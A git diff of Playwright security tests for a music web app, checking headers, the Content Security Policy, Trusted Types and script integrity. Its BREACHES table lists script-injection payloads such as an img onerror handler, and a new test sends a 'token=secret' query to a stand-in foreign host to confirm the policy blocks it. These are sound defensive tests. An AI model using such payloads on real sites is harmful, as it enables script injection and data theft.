@@ -2,13 +2,19 @@ import type { APIResponse, Page } from '@playwright/test';
 import { httpsHeaders, securityHeaders } from '../../scripts/securityHeaders.ts';
 import { EMULATED_AUTH } from '../../scripts/siteConfig.ts';
 import { changePage, changePageData } from '../fixtures/changedPage.ts';
+import { fileOf } from '../fixtures/files.ts';
+import { storedTexts } from '../fixtures/keptLibrary.ts';
 import { spreadTest } from '../fixtures/remoteSites.ts';
 import { expect, test } from '../fixtures/test.ts';
 import { showPage } from '../fixtures/windowEvents.ts';
+import { ImportDialog } from '../pages/ImportDialog.ts';
+import { LibraryPage } from '../pages/LibraryPage.ts';
+import { PlaylistPage } from '../pages/PlaylistPage.ts';
+import { SettingsPage } from '../pages/SettingsPage.ts';
 
 const A_PAGE = { accept: 'text/html' };
 
-/** What the registry says of one remote, as far as these tests change it. */
+/** The registry's entry of a remote, as far as these tests change it. */
 interface Registration {
   readonly name: string;
   readonly entry: string;
@@ -19,12 +25,12 @@ interface PageData {
   readonly remotes: readonly Registration[];
 }
 
-/** Trusted Types as browsers have them. */
+/** The browser's Trusted Types API. */
 interface TypedWindow {
   readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
 }
 
-/** A registration as a registry names it whose files lie on `origin`. */
+/** A registry entry of a remote whose files are on `origin`. */
 function movedTo(origin: string, registration: Registration): Registration {
   const there = (url: string): string => origin + new URL(url).pathname;
   return {
@@ -36,7 +42,7 @@ function movedTo(origin: string, registration: Registration): Registration {
   };
 }
 
-/** What the music API's answers say in the place of the site. */
+/** The site's headers that differ on answers of the music API. */
 const MUSIC_HEADERS = {
   ...securityHeaders({ auth: EMULATED_AUTH }),
   'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
@@ -53,7 +59,7 @@ test.describe('every answer carries the security headers', () => {
     return path;
   };
 
-  test('whatever it is', async ({ request }) => {
+  test('of every kind', async ({ request }) => {
     const script = await shellScript(await request.get('/', { headers: A_PAGE }));
     const account = '/identitytoolkit.googleapis.com/v1/projects';
     const answers: readonly (readonly [string, number, APIResponse])[] = [
@@ -66,7 +72,11 @@ test.describe('every answer carries the security headers', () => {
       ['music', 200, await request.get('/api/music/search?q=jazz')],
       ['a search for nothing', 400, await request.get('/api/music/search?q=')],
       ['the sign-in service', 200, await request.get(`${account}?key=demo-key`)],
-      ['what nobody may ask of it', 404, await request.get(`${account}/demo-prelude/accounts`)],
+      [
+        'a forbidden endpoint of the identity service',
+        404,
+        await request.get(`${account}/demo-prelude/accounts`),
+      ],
       ['a malformed address', 404, await request.get('/%ff')],
       ['what is sent to a page', 404, await request.post('/')],
       [
@@ -81,13 +91,13 @@ test.describe('every answer carries the security headers', () => {
     const headers = securityHeaders({ auth: EMULATED_AUTH });
     for (const [what, status, answer] of answers) {
       expect(answer.status(), what).toBe(status);
-      // What is never a page says so itself, and allows less.
+      // Answers that are never pages have their own, stricter policy.
       const isMusic = new URL(answer.url()).pathname.startsWith('/api/music/');
       expect(answer.headers(), what).toMatchObject(isMusic ? MUSIC_HEADERS : headers);
     }
   });
 
-  test('and no answer leads elsewhere: there is no redirect', async ({ request, baseURL }) => {
+  test('and no answer redirects to another site', async ({ request, baseURL }) => {
     for (const path of ['//elsewhere.example', '/concerts/', '/shell', '/remotes/player']) {
       const answer = await request.get(`${baseURL}${path}`, { headers: A_PAGE, maxRedirects: 0 });
       expect(answer.headers(), path).toMatchObject(securityHeaders({ auth: EMULATED_AUTH }));
@@ -95,13 +105,13 @@ test.describe('every answer carries the security headers', () => {
     }
   });
 
-  test('and by https the promise to stay there', async ({ request }) => {
+  test('and over https the HSTS header', async ({ request }) => {
     const byHttps = await request.get('/', { headers: { 'x-forwarded-proto': 'https' } });
     expect(byHttps.headers()).toMatchObject(httpsHeaders);
     expect((await request.get('/')).headers()).not.toHaveProperty('strict-transport-security');
   });
 
-  test('and a page of another name that leads to this machine reads nothing', async ({
+  test('and a page under another host name that resolves to this machine cannot read any', async ({
     request,
   }) => {
     const answer = await request.get('/', { headers: { ...A_PAGE, host: 'elsewhere.example' } });
@@ -110,7 +120,7 @@ test.describe('every answer carries the security headers', () => {
   });
 });
 
-test('through every screen, the security policy has nothing to refuse', async ({
+test('no screen violates the security policy', async ({
   page,
   asMember,
   home,
@@ -141,17 +151,17 @@ test('through every screen, the security policy has nothing to refuse', async ({
   await expect(page.getByText('Oops! Page not found')).toBeVisible();
 });
 
-/** What somebody who can make the page's code work on a text of theirs would try; each is tried in the page. */
+/** Attempts of an attacker who controls a text that the page's code handles; each is made in the page. */
 const BREACHES: Readonly<Record<string, () => unknown>> = {
   'markup of an element': () =>
     (document.body.innerHTML = '<img src="/gone.png" onerror="window.ran = true">'),
-  'markup beside an element': () =>
+  'markup next to an element': () =>
     document.body.insertAdjacentHTML('beforeend', '<img src="/gone.png" onerror="window.ran = 1">'),
   'a frame with markup': () =>
     (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
   'a parsed page': () => new DOMParser().parseFromString('<b>Hear</b>', 'text/html'),
   'a text for a script': () => (document.createElement('script').text = 'window.ran = true'),
-  // The type has no texts any more, browsers have.
+  // The type does not allow strings any more, browsers do.
   'a text for later': () => setTimeout('window.ran = true' as unknown as () => void),
   'a handler': () => document.body.setAttribute('onclick', 'window.ran = true'),
   'a script of elsewhere': () =>
@@ -170,7 +180,7 @@ const BREACHES: Readonly<Record<string, () => unknown>> = {
     }),
 };
 
-test.describe('a text becomes neither markup nor code:', () => {
+test.describe('a text is not run as markup or code:', () => {
   for (const [what, act] of Object.entries(BREACHES))
     test(what, async ({ page, asGuest, home, expectedErrors }) => {
       expectedErrors.push(/security policy/i, /Trusted/);
@@ -181,8 +191,72 @@ test.describe('a text becomes neither markup nor code:', () => {
     });
 });
 
+test.describe('pictures and sound come from the site’s own sources:', () => {
+  const ELSEWHERE = 'https://elsewhere.example';
+
+  /** Requests to the foreign host; answered with nothing, as there is no network in tests. */
+  async function askedOf(page: Page): Promise<readonly string[]> {
+    const asked: string[] = [];
+    await page.route(`${ELSEWHERE}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    return asked;
+  }
+
+  test('an imported playlist keeps no address of a foreign host', async ({ page, asMember }) => {
+    const asked = await askedOf(page);
+    await asMember();
+    const settings = new SettingsPage(page);
+    const dialog = new ImportDialog(page);
+    await settings.open();
+    const trackData = {
+      trackId: 1,
+      trackName: 'Bait',
+      artistName: 'Nobody',
+      artworkUrl100: `${ELSEWHERE}/100.png`,
+      artworkUrl60: `${ELSEWHERE}/60.png`,
+      previewUrl: `${ELSEWHERE}/1.mp3`,
+    };
+    const playlist = { id: 'p', name: 'Traced', tracks: [{ id: 'e', trackData, addedAt: 1 }] };
+    const content = { format: 'prelude-playlist', version: 1, playlist };
+    await settings.choose(fileOf('traced.json', JSON.stringify(content)));
+    await dialog.start.click();
+    await expect(dialog.root).toBeHidden();
+    const library = new LibraryPage(page);
+    await library.open();
+    await library.playlist('Traced').click();
+    const { rows } = new PlaylistPage(page);
+    await expect(rows).toHaveText([/Bait/]);
+    await expect(rows.getByTestId('cover-fallback')).toBeVisible();
+    await expect(rows.getByRole('button', { name: /^Play / })).toBeDisabled();
+    expect(JSON.stringify(await storedTexts(page))).not.toContain(ELSEWHERE);
+    expect(asked).toEqual([]);
+  });
+
+  test('no code of the page sends data out by them', async ({ page, landing, expectedErrors }) => {
+    expectedErrors.push(/security policy/i);
+    const asked = await askedOf(page);
+    await landing.open();
+    const blocked = await page.evaluate(async (elsewhere) => {
+      const directives: string[] = [];
+      const both = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          if (directives.push(effectiveDirective) === 2) resolve();
+        });
+      });
+      new Image().src = `${elsewhere}/?token=secret`;
+      new Audio().src = `${elsewhere}/?token=secret`;
+      await both;
+      return directives;
+    }, ELSEWHERE);
+    expect([...blocked].sort()).toEqual(['img-src', 'media-src']);
+    expect(asked).toEqual([]);
+  });
+});
+
 test.describe('a script without its integrity does not run', () => {
-  test('though it is the product’s own and its address is allowed', async ({
+  test('even if it is part of the product and its address is allowed', async ({
     page,
     asGuest,
     home,
@@ -212,15 +286,16 @@ test.describe('a script without its integrity does not run', () => {
     expect(outcome).toEqual({ without: 'refused', with: 'ran' });
   });
 
-  test('nor does the shell, where its page has lost them', async ({ page, expectedErrors }) => {
+  test('nor does the shell, if its page lacks the hashes', async ({ page, expectedErrors }) => {
     expectedErrors.push(/integrity/i);
     await changePage(page, (html) => html.replace(/(<script src[^>]*?) integrity="[^"]*"/g, '$1'));
     await page.goto('/');
-    await expect(page.locator('#root')).toBeEmpty();
+    const words = page.getByRole('heading', { name: 'Something went wrong' });
+    await expect(words).toBeVisible({ timeout: 20_000 });
     await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
   });
 
-  test('nor a part whose files the registry does not name: it is missing, the rest goes on', async ({
+  test('nor a remote whose files the registry does not list: it is missing, the rest works', async ({
     page,
     asGuest,
     player,
@@ -242,11 +317,11 @@ test.describe('a script without its integrity does not run', () => {
   });
 });
 
-spreadTest.describe('a remote on an origin of its own', () => {
+spreadTest.describe('a remote on a separate origin', () => {
   spreadTest(
-    'is loaded from there, as the configuration says, and the music plays',
+    'is loaded from the configured origin, and the music plays',
     async ({ page, asGuest, home, player, playerSite, spreadSite }) => {
-      // The page's own server has these files as well: none may come from there.
+      // The page's server has these files as well: none may be loaded from it.
       await page.route(`${spreadSite.origin}/remotes/player/**`, (route) => route.abort());
       const policy = (await page.request.get('/')).headers()['content-security-policy'];
       expect(policy).toContain(`script-src 'self' ${playerSite.origin};`);
@@ -263,7 +338,7 @@ spreadTest.describe('a remote on an origin of its own', () => {
   );
 
   spreadTest(
-    'that the configuration does not name is refused by the shell: no file of it is asked for',
+    'that is not configured is refused by the shell, which requests no file of it',
     async ({ page, asGuest, home, spreadSite, strangeSite, expectedErrors }) => {
       expectedErrors.push(/^\[player\]/);
       spreadSite.changePage((html) =>
@@ -283,7 +358,7 @@ spreadTest.describe('a remote on an origin of its own', () => {
   );
 
   spreadTest(
-    'that the configuration does not name is refused by the browser: a script of it does not run',
+    'that is not configured is refused by the browser: its scripts do not run',
     async ({ page, landing, spreadSite, strangeSite, expectedErrors }) => {
       expectedErrors.push(/security policy/i);
       const said = page.waitForEvent('console', (message) =>
